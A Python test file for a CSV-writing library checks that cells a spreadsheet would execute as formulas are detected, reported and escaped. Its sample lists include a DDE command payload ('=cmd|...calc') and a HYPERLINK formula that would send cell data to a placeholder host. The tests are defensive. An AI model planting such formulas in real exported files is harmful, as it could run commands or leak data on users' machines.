"""Cells of CSV that a spreadsheet would run as a formula: said, and escaped on request."""

from __future__ import annotations

import csv
import json
import re
import shutil
from pathlib import Path

import pyarrow as pa
import pytest

import fabula as fb
from fabula.cli.main import main
from fabula.io.formula_cells import FormulaGuard
from fabula.io.formulas import is_formula

FORMULAS = [
    "=1+1", "=cmd|'/C calc'!A0", '=HYPERLINK("http://x.invalid?"&A1)', "@SUM(A1)", "+cmd", "-cmd|x",
    "\tx", "\rx", "\n=1", "+49-170-1234", "-1+1", "+1+cmd|x", "-2*3", "＝1+1", "＋1", "－a", "＠x",
    "-(1)", "+ =x", "- item", "-5 apples", "=", "@", "-a", "+1e5+x",
]  # fmt: skip
PLAIN = [
    "-5", "+5", "-5.25", "-1,234.50", "+1e5", "-1e-5", "-$5.00", "- 5", "-", "+", "--", "---",
    "-5%", "", "a=1", "'=1", "1-1", "€5", "-€5", "+49 170 123", "ﬁsh", "-.5", "a@b.org",
]  # fmt: skip


@pytest.mark.parametrize("kind", ["string", "large_string", "dictionary", "sliced"])
@pytest.mark.parametrize("escape", [False, True])
def test_every_formula_of_a_column_is_found_and_nothing_else(kind: str, escape: bool) -> None:
    texts = [*FORMULAS, *PLAIN, None]
    column = pa.array(texts, pa.large_string() if kind == "large_string" else pa.string())
    if kind == "dictionary":
        column = column.dictionary_encode()
    if kind == "sliced":
        column = pa.array(["=x", *texts]).slice(1)
    guard = FormulaGuard(escape)
    written = guard.rows(pa.table({"a": column, "n": [-1] * len(texts)})).column("a").to_pylist()
    assert dict(guard.found) == {"a": len(FORMULAS)}
    marked = [f"'{text}" for text in FORMULAS] if escape else FORMULAS
    assert written == [*marked, *PLAIN, None]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_alone_is_known_as_a_formula(text: str) -> None:
    assert is_formula(text)


@pytest.mark.parametrize("text", PLAIN)
def test_numbers_and_other_texts_are_no_formulas(text: str) -> None:
    assert not is_formula(text)


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A spec, a learned table and a run, all with formulas."""
    folder = tmp_path_factory.mktemp("formulas")
    columns = {
        "a": {"kind": "choice", "values": ["=cmd|'/C calc'!A0", "x"]},
        "=b": {"kind": "uniform", "min": -5, "max": -1, "decimals": 0},
    }
    spec = folder / "s.json"
    spec.write_text(json.dumps({"tables": {"t": {"n": 40, "columns": columns}}}))
    rows = fb.generate(spec, n=60).to_arrow()
    fb.fit(rows, model="copula").save(folder / "m.fabula")
    fb.generate(spec, output=folder / "run")
    return folder


@pytest.fixture
def _folder(made: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    shutil.copytree(made, tmp_path / "work")
    monkeypatch.chdir(tmp_path / "work")


in_folder = pytest.mark.usefixtures("_folder")


FACES = {
    "a run": ("out/t.csv", "generate s.json -o out --format csv"),
    "a run of one file": ("out.csv", "generate s.json -o out.csv"),
    "a run of one file with tabs": ("out.tsv", "generate s.json -o out.tsv"),
    "a learned table": ("out.csv", "sample m.fabula -n 50 -o out.csv"),
    "a learned table on stdout": ("-", "sample m.fabula -n 50"),
    "a preview": ("-", "preview s.json -n 30 --format csv"),
    "an export": ("out.csv", "export run -o out.csv"),
}


@in_folder
@pytest.mark.parametrize("face", FACES)
@pytest.mark.parametrize("escape", [False, True])
def test_every_command_that_writes_csv_says_and_escapes_formulas(
    face: str, escape: bool, capsys: pytest.CaptureFixture[str]
) -> None:
    place, words = FACES[face]
    assert main([*words.split(), *["--escape-formulas"] * escape]) == 0
    printed = capsys.readouterr()
    text = printed.out if place == "-" else Path(place).read_text()
    separator = "\t" if place.endswith("tsv") else ","
    header, *rows = csv.reader(text.splitlines(), delimiter=separator)
    cells = [row[0] for row in rows]
    count = sum(cell.lstrip("'").startswith("=") for cell in cells)
    assert count > 0
    assert re.search(rf"warning: .*{count} in `a`", printed.err)
    assert re.search("1 in `=b`", printed.err)
    assert ("--escape-formulas" in printed.err) is not escape
    start = "'=" if escape else "="
    assert header == ["a", f"{start}b"]
    assert {cell[: len(start)] for cell in cells if "=" in cell} == {start}
    assert {row[1][0] for row in rows} == {"-"}  # numbers stay numbers


@in_folder
def test_python_escapes_and_counts_formulas_too() -> None:
    made = fb.generate(Path("s.json"), output="out", format="csv", escape_formulas=True)
    count = made.manifest["tables"]["t"]["formulas"]["a"]
    assert made["a"].to_pylist().count("'=cmd|'/C calc'!A0") == count > 0
    assert set(made["=b"].to_pylist()) <= set(range(-5, 0))
    made.write("copy.csv", escape_formulas=True)
    assert Path("copy.csv").read_text() == Path("out/t.csv").read_text()
    fb.export(fb.generate(Path("s.json")).to_arrow(), "e.csv", escape_formulas=True)
    assert sorted(Path("e.csv").read_text().splitlines()) == sorted(
        Path("out/t.csv").read_text().splitlines()
    )


@in_folder
def test_a_run_with_and_one_without_escapes_are_two_runs() -> None:
    """A folder never holds a table that is escaped in half of its parts."""
    assert main(["generate", "s.json", "-o", "out", "--format", "csv"]) == 0
    again = ["generate", "s.json", "-o", "out", "--format", "csv", "--escape-formulas"]
    assert main(again) == 2
    assert main([*again, "--overwrite"]) == 0
    assert main(again) == 0


@in_folder
def test_what_is_appended_to_a_file_is_looked_at() -> None:
    Path("old.csv").write_text("a,b\n" + "".join(f"=x{i},{i}\n" for i in range(30)))
    words = ["extend", "old.csv", "-n", "3", "--model", "fake", "-o", "new.csv"]
    assert main([*words, "--escape-formulas"]) in (0, 4)
    new = Path("new.csv").read_text().splitlines()
    assert new[:31] == Path("old.csv").read_text().splitlines()
    assert not [line for line in new[31:] if line.lstrip('"').startswith("=")]


@in_folder
def test_quiet_commands_stay_quiet(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["-q", "generate", "s.json", "-o", "out.csv"]) == 0
    assert capsys.readouterr().err == ""
